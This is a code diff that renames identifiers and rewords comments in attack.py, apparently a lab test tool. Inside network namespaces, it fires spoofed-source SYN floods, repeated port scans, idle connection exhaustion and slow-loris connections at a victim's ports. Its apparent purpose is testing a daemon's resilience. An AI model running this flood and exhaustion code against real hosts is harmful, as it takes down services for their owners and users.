@@ -1,14 +1,14 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Attacks on a host's reachable ports, inside the laboratory's namespaces.
+"""Attacks on a host's reachable ports, inside the lab's namespaces.
 
 `attack.py KIND ADDRESS PORT...` in the attacker's namespace. It prints "ready" after its first
 packets and continues until its stdin ends:
 
-    syn    half-open floods: SYNs to these ports from any source port, half of them from
-           addresses without a host
+    syn    SYN flood to these ports from random source ports, half of it from addresses without a
+           host
     scan   a SYN to every port, repeatedly
-    silent connections to these ports that send nothing and are reopened when they are closed
-    loris  connections to these ports that send a byte of a preamble at intervals
+    silent connections to these ports that send nothing, reopened when the victim closes them
+    loris  connections to these ports that send a byte of a preamble at intervals (slow loris)
 """
 
 import os
@@ -27,8 +27,8 @@ from harp.lab.piped import Piped
 from harp.waiting import readable
 
 KINDS = ("syn", "scan", "silent", "loris")
-_BURST, _PAUSE_S = 20, 0.01  # packets at a time, and between them: 2000 a second
-_CROWD = 100  # connections to each port
+_BURST, _PAUSE_S = 20, 0.01  # 2000 packets per second
+_CONNECTIONS = 100  # per port
 _LORIS_S = 0.2  # between a connection's bytes
 _HELLO = b"HELO" + struct.pack("<HHQI", 1, 0, 0, 262144) + bytes(44)
 
@@ -38,9 +38,9 @@ class Attack:
 
     def __init__(self, host: Host, kind: str, victim: str, ports: Sequence[int]) -> None:
         if kind not in KINDS:
-            raise HarpError(f"attack: {kind} is none of {', '.join(KINDS)}", Exit.USAGE)
-        words = [sys.executable, __file__, kind, victim, *map(str, ports)]
-        self._process = host.popen(words, stdin=subprocess.PIPE)
+            raise HarpError(f"attack: unknown kind {kind}: use {', '.join(KINDS)}", Exit.USAGE)
+        argv = [sys.executable, __file__, kind, victim, *map(str, ports)]
+        self._process = host.popen(argv, stdin=subprocess.PIPE)
         self._tool = Piped("attack.py", self._process)
         self._tool.expect("ready")
 
@@ -61,19 +61,19 @@ class Attack:
 # ---- the attacker's process ----------------------------------------------------------------------
 
 
-def _over(wait_s: float) -> bool:
+def _is_stdin_closed(wait_s: float) -> bool:
     return bool(readable([0], wait_s))
 
 
 def checksum(data: bytes) -> int:
-    """RFC 1071's, of an even number of bytes."""
+    """RFC 1071's checksum of an even number of bytes."""
     total = int(sum(struct.unpack(f"!{len(data) // 2}H", data)))
     total = (total & 0xFFFF) + (total >> 16)
     return ~(total + (total >> 16)) & 0xFFFF
 
 
 class _Packets:
-    """SYNs to one address, as IP packets: this host's kernel finds the way."""
+    """Sends SYNs to one address on a raw IP socket; this host's kernel routes them."""
 
     def __init__(self, victim: str) -> None:
         family = socket.AF_INET6 if ":" in victim else socket.AF_INET
@@ -85,7 +85,7 @@ class _Packets:
         self._rng = random.Random(1)
 
     def syn(self, port: int, *, spoofed: bool) -> None:
-        """One, from a source port of chance."""
+        """Sends a SYN from a random source port."""
         source = self._source
         if spoofed:
             source = source[:-1] + bytes([self._rng.randrange(100, 250)])
@@ -102,9 +102,9 @@ class _Packets:
         return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + source + self._target
 
 
-def _ports(kind: str, given: Sequence[int]) -> Iterator[int]:
+def _ports(kind: str, ports: Sequence[int]) -> Iterator[int]:
     while True:
-        yield from range(1, 65536) if kind == "scan" else given
+        yield from range(1, 65536) if kind == "scan" else ports
 
 
 def _flood(kind: str, victim: str, ports: Sequence[int]) -> None:
@@ -113,29 +113,29 @@ def _flood(kind: str, victim: str, ports: Sequence[int]) -> None:
         packets.syn(port, spoofed=kind == "syn" and count % 2 == 0)
         if count == _BURST:
             print("ready", flush=True)
-        if count % _BURST == 0 and _over(_PAUSE_S):
+        if count % _BURST == 0 and _is_stdin_closed(_PAUSE_S):
             break
 
 
-class _Caller:
-    """One of a crowd's connections, opened again and again."""
+class _Connection:
+    """A connection that is reopened when the victim closes it."""
 
     def __init__(self, victim: str, port: int) -> None:
-        self._where = (victim, port)
+        self._address = (victim, port)
         self._family = socket.AF_INET6 if ":" in victim else socket.AF_INET
         self.socket: socket.socket | None = None
-        self.said = 0
+        self.sent_bytes = 0
 
-    def step(self, talk: bool) -> None:
+    def step(self, send: bool) -> None:
         if self.socket is None:
             self.socket = socket.socket(self._family, socket.SOCK_STREAM)
             self.socket.setblocking(False)
-            self.socket.connect_ex(self._where)
-            self.said = 0
+            self.socket.connect_ex(self._address)
+            self.sent_bytes = 0
             return
         try:
-            if talk:
-                self.said += self.socket.send(_HELLO[self.said : self.said + 1])
+            if send:
+                self.sent_bytes += self.socket.send(_HELLO[self.sent_bytes : self.sent_bytes + 1])
             if self.socket.recv(1) == b"":
                 raise ConnectionResetError
         except BlockingIOError:
@@ -145,21 +145,21 @@ class _Caller:
             self.socket = None
 
 
-def _crowd(kind: str, victim: str, ports: Sequence[int]) -> None:
-    callers = [_Caller(victim, port) for port in ports for _ in range(_CROWD)]
-    for caller in callers:
-        caller.step(False)
+def _connect_many(kind: str, victim: str, ports: Sequence[int]) -> None:
+    connections = [_Connection(victim, port) for port in ports for _ in range(_CONNECTIONS)]
+    for connection in connections:
+        connection.step(False)
     print("ready", flush=True)
-    while not _over(_LORIS_S):
-        for caller in callers:
-            caller.step(kind == "loris")
+    while not _is_stdin_closed(_LORIS_S):
+        for connection in connections:
+            connection.step(kind == "loris")
 
 
-def main(words: Sequence[str]) -> int:
+def main(argv: Sequence[str]) -> int:
     """Entry point."""
-    kind, victim, *ports = words
-    act = _flood if kind in ("syn", "scan") else _crowd
-    act(kind, victim, [int(port) for port in ports])
+    kind, victim, *ports = argv
+    attack = _flood if kind in ("syn", "scan") else _connect_many
+    attack(kind, victim, [int(port) for port in ports])
     return os.EX_OK
 
 
